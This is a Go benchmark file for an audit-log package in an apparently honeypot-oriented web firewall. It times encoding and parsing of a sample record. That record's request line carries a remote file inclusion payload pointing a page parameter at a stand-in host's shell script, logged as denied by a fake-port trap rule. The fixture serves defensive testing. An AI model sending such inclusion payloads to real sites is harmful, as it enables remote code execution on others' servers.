package audit

import (
	"bytes"
	"net/netip"
	"testing"
	"time"
)

func BenchmarkAppendNative(b *testing.B) {
	r := smallRecord()
	var dst []byte
	b.ReportAllocs()
	for b.Loop() {
		dst = AppendNative(dst[:0], r)
	}
	b.SetBytes(int64(len(dst)))
}

// BenchmarkAppendNativeNew allocates each entry, as the way to the spool does.
func BenchmarkAppendNativeNew(b *testing.B) {
	r := smallRecord()
	b.ReportAllocs()
	for b.Loop() {
		AppendNative(nil, r)
	}
}

func BenchmarkParseNative(b *testing.B) {
	entry := AppendNative(nil, smallRecord())
	b.SetBytes(int64(len(entry)))
	b.ReportAllocs()
	for b.Loop() {
		ParseNative(entry)
	}
}

// smallRecord is what the article's rule leaves for a GET on a trap port.
func smallRecord() *Record {
	return &Record{
		ID: "awKnLkkywei6cfh82bxCLwAAAEA", Time: time.Date(2026, 11, 22, 8, 26, 22, 809837000, time.UTC), Duration: 55 * time.Microsecond,
		Host: "www.example1.com", Honeytrap: true,
		Peer: netip.MustParseAddrPort("192.0.2.7:40000"), Client: netip.MustParseAddrPort("192.0.2.7:40000"), Server: netip.MustParseAddrPort("198.51.100.1:8000"),
		RequestHead: []byte("GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1\r\nHost: www.example1.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\r\nAccept: */*\r\nConnection: close\r\n"),
		Status:      403, ResponseHead: []byte("HTTP/1.1 403 Forbidden\r\nContent-Length: 239\r\nConnection: close\r\nContent-Type: text/html; charset=iso-8859-1\r\n"),
		ResponseBody: bytes.Repeat([]byte("x"), 239), ResponseBodySize: 239, Parts: "ABCDEFHIJKZ",
		Action: &Action{Phase: 2, Status: 403, Kind: "deny"},
		Matches: []Match{{
			ID: 999004, File: "/etc/trapline/honeypot.conf", Line: 1, Phase: 2, Disruptive: true, Operator: `Pattern match "^(8000|8080|8888)$" at SERVER_PORT.`,
			Message: "HoneyTrap Alert: Traffic Received on Fake Port.", Variables: []string{"SERVER_PORT"},
		}},
		Rules:   []RuleText{{ID: 999004, Raw: `SecRule SERVER_PORT "^(8000|8080|8888)$" "phase:2,id:999004,t:none,block,msg:'HoneyTrap Alert: Traffic Received on Fake Port.',setvar:ip.malicious_client=1"`}},
		Trailer: []Field{{"Producer", "Trapline/1."}, {"Server", "Apache"}, {"Engine-Mode", `"ENABLED"`}},
	}
}
